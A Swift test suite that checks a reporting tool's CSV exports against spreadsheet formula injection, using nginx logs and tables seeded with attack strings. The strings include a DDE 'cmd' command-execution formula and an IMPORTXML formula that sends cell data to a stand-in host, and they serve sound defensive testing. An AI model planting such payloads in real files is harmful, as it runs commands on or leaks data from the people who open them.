import Foundation
import Testing

@testable import waymark

/// Our CSV in a spreadsheet: dates are dates, numbers are numbers, and nothing that a stranger can write into a log or an
/// export becomes a formula. Without LibreOffice the rules alone are tested.
struct SpreadsheetTests {
  /// What people try: formulas of Excel, LibreOffice and Google Sheets, with DDE, behind characters that a spreadsheet may
  /// skip or cut at, and behind quotes that would end a cell.
  static let attempts = [
    "=1+2", "+1+2", "-1+2", "@SUM(1)", "\t=1+2", "\r=1+2", "\n=1+2", " =1+2", "'=1+2", "=", "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.example\",\"y\")", "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")", "=SUM(1,2)", "=SUM(1;2)",
    "a,=1+2", "a;=1+2", "a\t=1+2", "a\n=1+2", "a\r=1+2", ";=1+2;", ",=1+2,", "\"=1+2", "\",=1+2,\"", "\";=1+2;\"", "a\",=1+2", "=1+2\";=1+2",
    "=1+2'\" ;,=1+2", "\u{FEFF}=1+2", "\u{FF1D}1+2", "\u{FF20}SUM(1)", "\u{200B}=1+2", "%3D1+2", "-", "+49 30 1", "-cmd|x",
  ]

  // MARK: Logs and exports in which every text is an attempt

  /// As nginx writes it: quotes, backslashes and control characters as \xhh.
  private func escaped(_ text: String) -> String {
    text.unicodeScalars.map { scalar in
      scalar.value < 0x20 || "\"\\".unicodeScalars.contains(scalar) ? "\\x" + String(format: "%02X", scalar.value) : String(scalar)
    }.joined()
  }

  private func percented(_ text: String) -> String { text.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? "" }

  private func quoted(_ text: String) -> String { "\"\(text.replacing("\"", with: "\"\""))\"" }

  /// Writes the inputs and their configuration into the folder; gives the configuration's path.
  private func hostileShop(in folder: String) throws -> String {
    let agent = "Mozilla/5.0 (X11; Linux x86_64; rv:136.0) Gecko/20100101 Firefox/136.0"
    var log = ""
    var tables = [
      "orders": "Number,Placed,Worth,Who,Mail\n", "deeds": "When,What,Who,Channel,Source,Medium,Campaign,Keyword,Row\n",
      "leads": "Since,Who,Mail,Channel,Source,Medium,Campaign,Keyword\n", "costs": "Day,Cost,Source,Medium,Campaign\n",
    ]
    for (number, attempt) in Self.attempts.enumerated() {
      let time = "\(String(format: "%02d", number % 28 + 1))/Mar/2026:0\(number / 28)"
      let raw = escaped(attempt)
      let tag = percented(attempt)
      let (user, host) = (raw.replacing(" ", with: "\\x20"), raw.replacing(" ", with: "_"))
      func line(_ n: Int, _ target: String, _ referrer: String, user: String = "-", _ agent: String, _ host: String, _ cookie: String, _ country: String) {
        log += "198.18.\(number).\(n) - \(user) [\(time):\(10 + n):00 +0000] \"GET \(target) HTTP/1.1\" 200 9 \"\(referrer)\" \"\(agent)\" \"\(host)\" \"\(cookie)\" \"\(country)\"\n"
      }
      line(1, raw, "-", agent, "-", "-", "-")
      line(2, "/" + raw, raw, agent, "-", "-", "-")
      line(3, "/in?utm_source=\(tag)&utm_medium=\(tag)&utm_campaign=\(tag)&utm_term=\(tag)", "-", agent, "-", "-", raw)
      line(4, "/out", "https://\(raw)/", agent, host, "-", "-")
      line(5, "/who", "-", user: user, raw, host, raw, raw)
      line(6, "/thank-you?order=\(tag)", "https://\(tag)/", agent, "-", raw, "-")
      let cell = quoted(attempt)
      tables["orders"]? += "\(cell),2026-03-0\(number % 9 + 1)T12:00:00Z,5.00,\(cell),\(quoted(attempt + "@example.org"))\n"
      tables["deeds"]? += "2026-03-0\(number % 9 + 1)T13:00:00Z,\(cell),\(cell),\(cell),\(cell),\(cell),\(cell),\(cell),\(cell)\n"
      tables["leads"]? += "2026-03-0\(number % 9 + 1)T14:00:00Z,\(cell),m\(number)@example.org,,\(cell),\(cell),\(cell),\(cell)\n"
      tables["costs"]? += "2026-03-0\(number % 9 + 1),1.50,\(cell),\(cell),\(cell)\n"
    }
    try FileManager.default.createDirectory(atPath: folder + "/logs", withIntermediateDirectories: true)
    // The name of a file, too, is a text in a table.
    try Project.write(log, to: folder + "/logs/=1+2,;=1+2.log")
    for (name, text) in tables { try Project.write(text, to: "\(folder)/\(name).csv") }
    try Project.write(
      #"""
      goals: {"=1+2": ["/out"], "a;=1+2": ["/who"]}
      pages: {groups: {"=1+2": "/in*", "a;=1+2": "/out*"}}
      channels: {groups: {"=1+2": {source: "=*"}, "a;=1+2": {source: "+*"}}}
      inputs:
        - files: logs/*.log
          log_format: '$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent" "$host" "$cookie_uid" "$geoip_country_code"'
          cookies: [uid]
        - {files: orders.csv, records: order, currency: EUR, columns: {order: Number, time: Placed, amount: Worth, customer: Who, email: Mail}}
        - {files: deeds.csv, records: activity, columns: {time: When, kind: What, customer: Who, channel: Channel, source: Source, medium: Medium, campaign: Campaign, keyword: Keyword, id: Row}}
        - {files: leads.csv, records: contact, columns: {created: Since, customer: Who, email: Mail, source: Source, medium: Medium, campaign: Campaign, keyword: Keyword}}
        - {files: costs.csv, records: spend, currency: EUR, columns: {time: Day, cost: Cost, source: Source, medium: Medium, campaign: Campaign}}

      """#, to: folder + "/waymark.yaml")
    return folder + "/waymark.yaml"
  }

  /// Writes all tables, the three kinds of rows and the identity report into `folder`, and gives the files.
  private func files(_ inputs: [String], _ style: [String], in folder: String) throws -> [String] {
    let input = inputs + ["--max-rejects", "100%", "--quiet"] + style
    let identity = folder + "/identity.csv"
    let ended = try BuiltCommand.run(
      ["report", "--out", folder + "/tables", "--identity-report", identity, "--identifiers", "raw"] + input)
    #expect(ended.status == 0, "\(ended.errors)")
    var files = [identity]
    for name in try FileManager.default.contentsOfDirectory(atPath: folder + "/tables").sorted() where name.hasSuffix(".csv") {
      files.append("\(folder)/tables/\(name)")
    }
    for rows in ["touchpoints", "sessions", "journeys"] {
      let ended = try BuiltCommand.run(["export", rows, "--out", "\(folder)/rows_\(rows).csv"] + input)
      #expect(ended.status == 0, "\(ended.errors)")
      files.append("\(folder)/rows_\(rows).csv")
    }
    let cut = try BuiltCommand.run(["report", "--by", "campaign", "--out", folder + "/cut"] + input)
    #expect(cut.status == 0, "\(cut.errors)")
    try FileManager.default.moveItem(atPath: folder + "/cut/kpis.csv", toPath: folder + "/kpis_by_campaign.csv")
    return files + [folder + "/kpis_by_campaign.csv"]
  }

  // MARK: The rules, without a spreadsheet

  struct Style: CustomTestStringConvertible, Sendable {
    var flags: [String]
    var separators: String
    var mark: Character = "."
    var language = 1033

    var testDescription: String { (flags + ["cut at \(separators.debugDescription)"]).joined(separator: " ") }
  }

  /// Both as LibreOffice offers to open them, cut at commas, semicolons and tabs, and as the user should.
  static let styles = [
    Style(flags: [], separators: ",;\t"), Style(flags: ["--bom"], separators: ",;\t"),
    Style(flags: ["--bom", "--line-ending", "crlf"], separators: ","),
    Style(flags: ["--delimiter", ";", "--decimal", ",", "--line-ending", "crlf"], separators: ";", mark: ",", language: 1031),
    Style(flags: ["--delimiter", ";", "--bom"], separators: ",;\t"),
  ]

  @Test(arguments: styles) func `no text of a stranger begins a cell as a formula does`(style: Style) throws {
    try Project.inTemporaryFolder { folder in
      let configuration = try hostileShop(in: folder)
      var attempts = 0
      for file in try files(["--config", configuration], style.flags, in: folder) {
        let name = URL(fileURLWithPath: file).lastPathComponent
        let rows = cells(try String(contentsOfFile: file, encoding: .utf8), style.separators)
        for row in rows { #expect(row.count == rows[0].count, "\(name): \(row)") }
        #expect(formulas(rows, mark: style.mark) == [], "\(name)")
        attempts += rows.joined().count { $0.hasPrefix("'=") }
      }
      #expect(attempts > 200, "the attempts got as far as the tables")
    }
  }

  /// The cells that begin as a formula does and are no number.
  private func formulas(_ rows: [[String]], mark: Character) -> [String] {
    rows.joined().filter { cell in
      let isNumber = cell.wholeMatch(of: mark == "," ? /-?\d+(,\d+)?/ : /-?\d+(\.\d+)?/) != nil
      return !isNumber && (cell.unicodeScalars.first.map { "=+-@\t\r".unicodeScalars.contains($0) } ?? false)
    }
  }

  /// Every column of every export that is known, one after the other, in its sample rows.
  @Test func `no column of a known export brings a formula into a table`() throws {
    let attempt = "=1+2\";=1+2,=1+2"
    var reached: Set<String> = []
    for name in ExportFixture.names {
      let sample = cells(try ExportFixture(name: name).text("samples.csv"), ",")
      let width = sample.map(\.count).max() ?? 0
      let header = try #require(sample.firstIndex { $0.count == width })
      for column in 0..<width {
        var rows = sample
        for row in rows.indices where row > header && column < rows[row].count { rows[row][column] = attempt }
        try Project.inTemporaryFolder { folder in
          try Project.write(rows.map { $0.map(quoted).joined(separator: ",") + "\n" }.joined(), to: folder + "/export.csv")
          for (table, text) in try RunInProcess().tables([folder]) {
            let found = cells(text, ",;\t")
            #expect(formulas(found, mark: ".") == [], "\(name), \(sample[header][column]): \(table)")
            for row in found { #expect(row.count == found[0].count, "\(name), \(sample[header][column]): \(table)") }
            if found.joined().contains("'" + attempt) { reached.insert("\(name): \(sample[header][column])") }
          }
        }
      }
    }
    #expect(reached.count >= 12, "the attempts got as far as the tables: \(reached.sorted())")
  }

  /// Cuts as spreadsheets do: at each of the separators, at line ends, and not between quotes that begin a cell.
  private func cells(_ text: String, _ separators: String) -> [[String]] {
    var rows: [[String]] = [[]]
    var cell = ""
    var isQuoted = false
    var rest = Array(text.unicodeScalars)[...]
    if rest.first == "\u{FEFF}" { rest.removeFirst() }
    while let scalar = rest.popFirst() {
      if isQuoted {
        if scalar != "\"" {
          cell.unicodeScalars.append(scalar)
        } else if rest.first == "\"" {
          rest.removeFirst()
          cell += "\""
        } else {
          isQuoted = false
        }
      } else if scalar == "\"", cell.isEmpty {
        isQuoted = true
      } else if separators.unicodeScalars.contains(scalar) {
        rows[rows.count - 1].append(cell)
        cell = ""
      } else if scalar == "\n" || scalar == "\r" {
        if scalar == "\r", rest.first == "\n" { rest.removeFirst() }
        rows[rows.count - 1].append(cell)
        cell = ""
        rows.append([])
      } else {
        cell.unicodeScalars.append(scalar)
      }
    }
    return rows.filter { !$0.isEmpty }
  }

  // MARK: LibreOffice itself

  @Test(.enabled(if: LibreOffice.path != nil, "LibreOffice is not here"), arguments: styles)
  func `LibreOffice takes no text of a stranger for a formula`(style: Style) throws {
    try Project.inTemporaryFolder { folder in
      let configuration = try hostileShop(in: folder)
      try expectOpensRight(try files(["--config", configuration], style.flags, in: folder), style, in: folder)
    }
  }

  @Test(.enabled(if: LibreOffice.path != nil, "LibreOffice is not here"), arguments: [styles[0], styles[1], styles[3]])
  func `a report opens in LibreOffice with dates and numbers as such`(style: Style) throws {
    try Project.inTemporaryFolder { folder in
      let shop = Project.fixtures + "/shop"
      let files = try files([shop + "/logs", shop + "/exports", "--timezone", "Europe/Berlin"], style.flags, in: folder)
      let sheets = try expectOpensRight(files, style, in: folder)
      let days = try #require(sheets["kpis"])
      #expect(days.dropFirst().map(\.first) == (27...30).map { .date("2026-03-\($0)") })
      #expect(days.first?.first == .text("period"), "no byte order mark in the first cell")
      let revenue = try #require(days[0].firstIndex(of: .text("revenue")))
      #expect(days.dropFirst().map { $0[revenue] } == [.number(44.85), .number(84.95), .number(24.95), .number(15)])
      // Weeks, months and instants are no dates to LibreOffice: they stay the texts that they are, and sort as such.
      #expect(sheets["retention"]?[1].first == .text("2026-W13"))
      let first = try #require(sheets["inputs"]?[0].firstIndex(of: .text("first_time")))
      #expect(sheets["inputs"]?[3][first] == .text("2026-03-29T00:05:00+01:00"))
    }
  }

  /// Every cell must be what the file says it is: a number, a day, true or false, or just that text.
  @discardableResult
  private func expectOpensRight(_ files: [String], _ style: Style, in folder: String) throws -> [String: [[LibreOffice.Cell]]] {
    let sheets = try LibreOffice.open(files, separators: style.separators, language: style.language, in: folder)
    #expect(sheets.count == files.count)
    for file in files {
      let name = URL(fileURLWithPath: file).deletingPathExtension().lastPathComponent
      let written = cells(try String(contentsOfFile: file, encoding: .utf8), style.separators)
      let sheet = try #require(sheets[name])
      #expect(sheet.count == written.count, "\(name) has as many rows")
      var others: [String: LibreOffice.Cell] = [:]
      for (row, found) in zip(written, sheet) {
        for (column, text) in row.enumerated() {
          let cell = column < found.count ? found[column] : .empty
          if cell != expected(text, style) { others[text] = cell }
        }
        #expect(found.count <= row.count, "\(name): \(row)")
      }
      #expect(others == [:], "\(name): what LibreOffice takes for something else")
    }
    return sheets
  }

  private func expected(_ text: String, _ style: Style) -> LibreOffice.Cell {
    let mark = style.mark
    if text.isEmpty { return .empty }
    // In German these are words: it waits for WAHR and FALSCH.
    if style.language == 1033, text == "true" || text == "false" { return .flag(text == "true") }
    if text.wholeMatch(of: /\d{4}-\d\d-\d\d/) != nil { return .date(text) }
    let number = text.replacing(String(mark), with: ".")
    if text.wholeMatch(of: mark == "," ? /-?\d+(,\d+)?/ : /-?\d+(\.\d+)?/) != nil, let value = Double(number) { return .number(value) }
    // It knows no carriage return within a cell.
    return .text(text.replacing("\r\n", with: "\n").replacing("\r", with: "\n"))
  }
}
